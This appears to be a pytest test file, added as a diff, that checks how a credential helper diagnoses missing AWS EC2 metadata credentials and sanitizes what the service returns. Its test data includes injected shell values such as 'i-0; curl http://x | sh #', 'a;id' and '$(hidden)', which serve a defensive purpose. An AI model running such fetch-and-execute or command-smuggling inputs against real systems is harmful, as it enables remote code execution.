@@ -1,0 +1,265 @@
+"""Why metadata gave no credentials: each cause, really caused on the stand-in."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import ssl
+from typing import TYPE_CHECKING
+
+import pytest
+
+from credhelper.aws.imds import Diagnosis, diagnose, diagnose_missing_keys, instance_region, instance_role
+from tests.conftest import UNREACHABLE
+from tests.contract.http_server import answering_by_path, serve_answer
+
+if TYPE_CHECKING:
+    from contextlib import AbstractContextManager
+    from pathlib import Path
+
+    from tests.fake_ec2.services import Loopback
+
+
+def get_endpoint(cloud: Loopback) -> str:
+    return cloud.environment()["AWS_EC2_METADATA_SERVICE_ENDPOINT"]
+
+
+def diagnose_endpoint(endpoint: str) -> Diagnosis:
+    """Ask as the exchange does, when botocore then finds no keys."""
+    role_info = instance_role(endpoint)
+    return role_info.diagnosis or diagnose_missing_keys(endpoint, role_info.name)
+
+
+@pytest.mark.parametrize(
+    ("behaviour", "id_", "clause", "fix"),
+    [
+        ("off", "metadata-off", "turned off (it answers 403)", "--http-endpoint enabled"),
+        ("no-role", "no-role", "no role is attached", "--instance-id i-0abcdef1234567890 --iam-instance-profile"),
+        ("untrusted", "role-untrusted", "EC2 may not assume it", "ec2.amazonaws.com"),
+        ("hop-limit", "metadata-hop-limit", "hop limit of 1", "--http-put-response-hop-limit 2"),
+        ("silent", "no-credentials", "no instance metadata answers here", "aws configure"),
+        ("on", "metadata-failed", "gave none a moment ago", "try again"),
+        ("refused-token", "metadata-refused", "answers 401", "MetadataOptions"),
+        ("fail", "metadata-failed", "answers 500", "try again"),
+    ],
+)
+def test_a_cause_is_found_and_its_fix_is_named(
+    cloud: Loopback, behaviour: str, id_: str, clause: str, fix: str
+) -> None:
+    cloud.configure(metadata=behaviour)
+    diagnosis = diagnose_endpoint(get_endpoint(cloud))
+    assert diagnosis.id == id_
+    assert clause in diagnosis.reason
+    assert fix in diagnosis.fix
+
+
+def test_a_role_is_identified_by_its_instance_profile_and_its_name(cloud: Loopback) -> None:
+    arn, id_, name = instance_role(get_endpoint(cloud)).identity.split(" ")
+    assert arn.startswith("arn:aws:iam::123456789012:instance-profile/")
+    assert id_.startswith("AIPA")
+    assert name == "app-role"
+
+
+def test_roles_of_one_name_in_two_accounts_are_distinguished(cloud: Loopback) -> None:
+    role = instance_role(get_endpoint(cloud)).identity
+    cloud.configure(account="210987654321")
+    assert instance_role(get_endpoint(cloud)).identity != role
+
+
+def test_no_role_is_reported_as_none(cloud: Loopback) -> None:
+    cloud.configure(metadata="no-role")
+    assert instance_role(get_endpoint(cloud)).identity == "none"
+
+
+def test_where_no_server_listens_there_is_no_metadata() -> None:
+    assert "no instance metadata answers here" in diagnose_endpoint(UNREACHABLE).reason
+
+
+def test_a_proxy_is_not_used_for_metadata(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("http_proxy", UNREACHABLE)
+    cloud.configure(metadata="no-role")
+    assert "no role" in diagnose_endpoint(get_endpoint(cloud)).reason
+
+
+def test_a_proxy_that_botocore_uses_for_metadata_is_named(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("http_proxy", UNREACHABLE)
+    diagnosis = diagnose_endpoint(get_endpoint(cloud))
+    assert diagnosis.id == "metadata-proxied"
+    assert "http_proxy sends" in diagnosis.reason
+
+
+def test_a_proxy_that_is_not_for_metadata_is_not_blamed(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("http_proxy", UNREACHABLE)
+    monkeypatch.setenv("no_proxy", "127.0.0.1")
+    assert diagnose_endpoint(get_endpoint(cloud)).id == "metadata-failed"
+
+
+def test_what_speaks_no_http_is_no_metadata() -> None:
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(0)  # the connection is made by the kernel, and nobody ever speaks
+        port = server.getsockname()[1]
+        assert "no instance metadata" in diagnose_endpoint(f"http://127.0.0.1:{port}").reason
+
+
+@pytest.mark.parametrize("page", [b"<html>\r\nplease log in\r\n</html>", b"\xff\xfe", "r\u00f6le".encode()])
+def test_what_gives_an_invalid_token_is_no_metadata(page: bytes) -> None:
+    with serve_answer(page) as url:
+        assert "a token that could not be one" in diagnose_endpoint(url).reason
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "nowhere",
+        "http://[::1",
+        "http://127.0.0.1:x",
+        "http://" + "a" * 300,
+        "http://\u00fc..de",
+        "file:///etc",
+        "ftp://127.0.0.1:9",
+    ],
+)
+def test_an_invalid_address_is_not_called(url: str) -> None:
+    assert "the address of instance metadata is none" in diagnose_endpoint(url).reason
+
+
+def test_a_path_that_cannot_be_written_in_a_request_leads_nowhere() -> None:
+    assert diagnose_endpoint(f"{UNREACHABLE}/\u00fc\udc80").id == "no-credentials"
+
+
+def test_no_tls_context_is_created_for_an_http_endpoint(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
+    def refuse(*_: object) -> None:
+        raise AssertionError("a TLS context was created")
+
+    monkeypatch.setattr(ssl, "SSLContext", refuse)
+    assert instance_role(get_endpoint(cloud)).name == "app-role"
+
+
+def test_an_https_endpoint_with_a_trusted_certificate_is_asked(
+    impostor: Loopback, authority: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SSL_CERT_FILE", str(authority / "ca.crt"))
+    assert instance_role(os.environ["AWS_ENDPOINT_URL"]).name == "app-role"
+    assert impostor.count_calls()["metadata"] == 3
+
+
+def test_an_https_endpoint_with_an_untrusted_certificate_receives_nothing(impostor: Loopback) -> None:
+    assert diagnose_endpoint(os.environ["AWS_ENDPOINT_URL"]).id == "no-credentials"
+    assert impostor.read_log() == []
+
+
+@pytest.mark.parametrize("url", ["file:///etc/hostname?", "ftp://127.0.0.1:9", "data:,eu-west-1?", "nowhere"])
+def test_an_address_of_another_kind_names_no_region(url: str) -> None:
+    assert instance_region(url) == ""
+
+
+def test_the_token_of_metadata_follows_no_redirection() -> None:
+    with serve_answer(b"evil") as other, serve_answer(b"token", 302, Location=other) as url:
+        assert "answers 302" in diagnose_endpoint(url).reason
+
+
+def test_the_name_of_a_role_is_quoted_for_a_shell() -> None:
+    with serve_answer({"Code": "AssumeRoleUnauthorizedAccess"}) as url:
+        assert "--role-name 'a;id' " in diagnose_missing_keys(url, "a;id").fix
+
+
+def test_what_gives_no_token_and_no_role_is_another_cloud() -> None:
+    with serve_answer(b"", 404) as url:
+        role_info = instance_role(url)
+    assert role_info.identity == ""
+    assert role_info.diagnosis is not None
+    assert "is not EC2's" in role_info.diagnosis.reason
+    assert "associate-iam-instance-profile" not in role_info.diagnosis.fix
+
+
+DOCUMENT = {
+    "Code": "Success",
+    "Type": "AWS-HMAC",
+    "AccessKeyId": "ASIAIOSFODNN7EXAMPLE",
+    "SecretAccessKey": "hiddenK7MDENGbPxRfiCYEXAMPLEKEYhidden4321",
+    "Token": "hidden-token",
+}
+NOT_A_ROLE = [
+    DOCUMENT,
+    json.dumps(DOCUMENT, indent=1).encode(),
+    b"<html>hidden</html>",
+    b"app role hidden",
+    b"app-role\nhidden",
+    b"app-role/hidden",
+    b"hidden\x1b[2J",
+    "hidden-r\u00f6le".encode(),
+    b"hidden" * 11,
+    b"hidden" * 200_000,
+    b"hidden;id",
+    b"$(hidden)",
+    b"\xffhidden",
+]
+
+
+def imds(
+    role: object, info: object = b"", instance: bytes = b"", role_status: int = 200
+) -> AbstractContextManager[str]:
+    """Give the URL of a service that answers as metadata does, but for some of its answers."""
+    return answering_by_path(
+        {
+            "/latest/api/token": (200, b"token"),
+            "/latest/meta-data/iam/security-credentials/": (role_status, role),
+            "/latest/meta-data/iam/info": (200, info),
+            "/latest/meta-data/instance-id": (200, instance),
+            "/latest/meta-data/placement/region": (200, instance),
+        }
+    )
+
+
+@pytest.mark.parametrize("role", NOT_A_ROLE)
+def test_what_is_not_the_name_of_a_role_is_not_repeated(role: object) -> None:
+    with imds(role) as url:
+        seen = instance_role(url)
+        found = diagnose(url)
+    assert found.id == "metadata-failed"
+    assert "not the name of a role" in found.reason
+    assert "hidden" not in repr((seen, found))
+
+
+@pytest.mark.parametrize("role", ["app-role", "a", "x" * 64, "a+b=c,d.e@f-g_h", "app-role\n"])
+def test_the_name_of_a_role_is_taken(role: str) -> None:
+    with imds(role.encode()) as url:
+        assert instance_role(url).name == role.strip()
+
+
+@pytest.mark.parametrize(
+    "info",
+    [
+        DOCUMENT,
+        b"hidden",
+        b"[" * 60_000,
+        {"InstanceProfileArn": "hidden", "InstanceProfileId": "AIPA1"},
+        {"InstanceProfileArn": "arn:aws:iam::123456789012:instance-profile/app", "InstanceProfileId": "hidden"},
+        {"InstanceProfileArn": "arn:aws:iam::123456789012:instance-profile/a b", "InstanceProfileId": "AIPA1"},
+        {"InstanceProfileArn": DOCUMENT, "InstanceProfileId": DOCUMENT},
+    ],
+)
+def test_an_instance_profile_that_is_none_is_not_kept(info: object) -> None:
+    with imds(b"app-role", info) as url:
+        assert instance_role(url).identity == ""
+
+
+@pytest.mark.parametrize("id_", [b"hidden", b"i-0; curl http://x | sh #", b"i-0\n1", b"i-" + b"0" * 1000, b"I-0"])
+def test_an_instance_s_id_that_is_none_is_not_in_the_command(id_: bytes) -> None:
+    with imds(b"", instance=id_, role_status=404) as url:
+        assert "--instance-id ID --iam" in diagnose_endpoint(url).fix
+
+
+@pytest.mark.parametrize("name", [b"hidden secret", b"us-east-1; id", b"US", b"x" * 100, json.dumps(DOCUMENT).encode()])
+def test_a_region_that_is_none_is_not_repeated(name: bytes) -> None:
+    with imds(b"", instance=name) as url:
+        assert instance_region(url) == ""
+
+
+@pytest.mark.parametrize("code", ["hidden code", "hidden" * 50, {"hidden": 1}, "hidden\x1b[2J", "hidden\n", 1])
+def test_a_code_that_is_none_is_not_repeated(code: object) -> None:
+    with serve_answer({"Code": code}) as url:
+        found = diagnose_missing_keys(url, "app-role")
+    assert "hidden" not in repr(found)
+    assert "an unknown code" in found.reason
